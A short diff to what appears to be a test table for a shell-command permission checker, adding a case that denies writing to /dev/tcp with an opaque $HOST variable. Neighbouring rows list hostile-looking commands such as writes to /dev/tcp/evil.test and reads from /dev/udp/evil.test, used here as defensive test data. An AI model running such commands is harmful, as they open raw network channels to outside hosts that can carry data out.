@@ -331,6 +331,7 @@ const refused: readonly Row[] = [
   [22, "cat < /home/bob/x", {}, "deny", "path/not-readable"],
   [22, "echo x > /tmp/pwned", mode("acceptEdits"), "ask", "path/not-writable"],
   [23, "echo x > /dev/tcp/evil.test/80", allow("Bash"), "deny", "net/host-not-allowed"],
+  [23, "echo x > /dev/tcp/$HOST/80", hosts({ allowed_domains: ["example.com"] }), "deny", "net/opaque-host"],
   [23, "cat < /dev/udp/evil.test/53", hosts({ allowed_domains: ["example.com"] }), "deny", "net/host-not-allowed"],
   [
     23,
